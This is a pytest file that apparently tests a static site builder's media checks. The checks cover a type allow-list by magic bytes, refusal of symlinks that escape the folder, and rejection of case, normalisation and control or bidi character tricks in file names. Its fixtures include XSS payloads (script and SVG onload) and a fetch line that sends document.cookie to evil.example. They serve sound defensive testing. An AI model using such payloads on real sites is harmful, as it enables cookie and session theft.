"""Issue 19, classes 2 and 16 (media part): media is an allow-list of inert types.

What is in content/media/ is published as it is, so it is checked by content (magic bytes)
and by name; a symlink there may not leave media; names that break on common hosts or
checkouts (case or Unicode-normalisation twins, control or bidirectional characters) are
refused.
"""

from __future__ import annotations

import struct
import unicodedata
import zlib
from pathlib import Path

import pytest

from hostilekit import CONTROL, assert_problem, before_and_after, build, problems
from sitekit import ARTICLE, SiteDir


def png() -> bytes:
    """A valid 1x1 grey PNG: the signature, IHDR, IDAT and IEND, with their CRCs."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + chunk(b"IEND", b"")
    )


GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/MediaBox[0 0 3 3]/Parent 2 0 R>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
HTML = b"<html><script>alert(document.domain)</script></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect/></svg>\n'
SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>\n'
JS = b"fetch('https://evil.example/?c=' + document.cookie);\n"

REFUSED = [
    ("x.html", HTML),
    ("x.htm", HTML),
    ("x.svg", SVG),
    ("onload.svg", SVG_ONLOAD),
    ("x.js", JS),
    ("x.mjs", JS),
    ("x.xml", b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>\n'),
    ("index.html", HTML),
    ("noextension", b"just some text\n"),
    ("chart.png", HTML),  # the name says image, the bytes say HTML
    ("report.pdf", JS),  # the name says PDF, the bytes are a script
    ("photo.jpg", SVG_ONLOAD),
    ("real-png.html", png()),  # image bytes, but a host would serve it as a page
    ("data.json", b"\xff\xfe{}"),  # not UTF-8
    ("sub/evil.js", JS),
    ("sub/index.htm", HTML),
]


@pytest.mark.parametrize(("name", "data"), REFUSED, ids=[name for name, _ in REFUSED])
def test_media_that_is_not_an_inert_type_is_refused(site: SiteDir, name: str, data: bytes) -> None:
    def put(s: SiteDir) -> None:
        path = s.content / "media" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    code, err = before_and_after(site, put)
    assert code == 1
    assert_problem(err, f"content/media/{name}", "error", "not an allowed media type")


ALLOWED = [
    ("chart.png", png()),
    ("anim.gif", GIF),
    ("report.pdf", PDF),
    ("notes.txt", "Plain notes, in UTF-8: caf\u00e9.\n".encode()),
    ("table.csv", b"year,deaths\n2019,91\n"),
    ("data.json", b'{"year": 2019, "deaths": 91}\n'),
]


@pytest.mark.parametrize(("name", "data"), ALLOWED, ids=[name for name, _ in ALLOWED])
def test_inert_media_builds_and_is_published(site: SiteDir, name: str, data: bytes) -> None:
    (site.content / "media").mkdir()
    (site.content / "media" / name).write_bytes(data)
    link = f"![A figure](../media/{name})" if name.endswith((".png", ".gif")) else None
    link = link or f"[The file](../media/{name})"
    site.article("kratom-and-pain.md", ARTICLE + f"\n{link} [@source-a]\n")
    result = build(site)
    assert result.code == 0, result.err
    assert (site.out / "media" / name).read_bytes() == data


@pytest.mark.parametrize(
    ("name", "target"),
    [
        ("x.md", "../articles/kratom-and-pain.md"),
        ("draft.png", "../articles/draft.md"),
        ("settings.txt", "../site.yaml"),
        ("articles", "../articles"),
        ("nested/up.txt", "../../bibliography.yaml"),
    ],
)
def test_a_symlink_that_leaves_media_is_refused(site: SiteDir, name: str, target: str) -> None:
    site.article(
        "draft.md",
        ARTICLE.replace("title: Kratom and pain", "title: A draft")
        .replace("pain-relief", "draft-claim")
        .replace("created:", "draft: true\ncreated:"),
    )

    def put(s: SiteDir) -> None:
        link = s.content / "media" / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)

    code, err = before_and_after(site, put)
    assert code == 1
    assert_problem(err, f"content/media/{name}", "error", "points outside content/media")


def test_a_symlink_to_a_folder_outside_the_content_is_refused(
    site: SiteDir, tmp_path: Path
) -> None:
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "secret.txt").write_text("TOP SECRET\n")
    code, err = before_and_after(
        site,
        lambda s: (
            (s.content / "media").mkdir(),
            (s.content / "media" / "elsewhere").symlink_to(folder),
        ),
    )
    assert code == 1
    assert_problem(err, "content/media/elsewhere", "error", "points outside")
    assert not any(b"TOP SECRET" in data for data in site.tree().values())


def test_a_symlink_within_media_builds(site: SiteDir) -> None:
    media = site.content / "media"
    media.mkdir()
    (media / "chart.png").write_bytes(png())
    (media / "same-chart.png").symlink_to("chart.png")
    site.article("kratom-and-pain.md", ARTICLE + "\n![A chart](../media/same-chart.png)\n")
    result = build(site)
    assert result.code == 0, result.err
    assert (site.out / "media" / "same-chart.png").read_bytes() == png()


# --- 16. media names ----------------------------------------------------------------------

NFC = unicodedata.normalize("NFC", "caf\u00e9.png")
NFD = unicodedata.normalize("NFD", "caf\u00e9.png")


@pytest.mark.parametrize(
    "names",
    [("Chart.png", "chart.png"), ("REPORT.PDF.png", "report.pdf.png"), (NFC, NFD)],
    ids=["case", "case-all", "nfc-nfd"],
)
def test_media_names_that_differ_only_by_case_or_normalisation(
    site: SiteDir, names: tuple[str, str]
) -> None:
    assert names[0] != names[1]

    def put(s: SiteDir) -> None:
        (s.content / "media").mkdir()
        for name in names:
            (s.content / "media" / name).write_bytes(png())

    code, err = before_and_after(site, put)
    assert code == 1
    blamed = [p for p in problems(err) if p.startswith("content/media/") and " error: " in p]
    assert blamed, err


@pytest.mark.parametrize(
    "name",
    ["a\u202egnp.exe.png", "a\x1b[2K.png", "a\rb.png", "a\u200fb.png", "tab\there.png"],
    ids=["rlo", "escape", "cr", "rlm", "tab"],
)
def test_media_names_with_control_or_bidi_characters_are_refused(site: SiteDir, name: str) -> None:
    def put(s: SiteDir) -> None:
        (s.content / "media").mkdir()
        (s.content / "media" / name).write_bytes(png())

    code, err = before_and_after(site, put)
    assert code == 1
    blamed = [p for p in problems(err) if p.startswith("content/media/") and " error: " in p]
    assert blamed, err
    assert not CONTROL.search(err), repr(err)


def test_the_article_that_links_bad_media_is_not_what_is_blamed(site: SiteDir) -> None:
    # The file is at fault, not the line that links it: the error names the file.
    def put(s: SiteDir) -> None:
        (s.content / "media").mkdir()
        (s.content / "media" / "chart.png").write_bytes(HTML)
        s.article("kratom-and-pain.md", ARTICLE + "\n![A chart](../media/chart.png)\n")

    code, err = before_and_after(site, put)
    assert code == 1
    assert_problem(err, "content/media/chart.png", "error", "not an allowed media type")
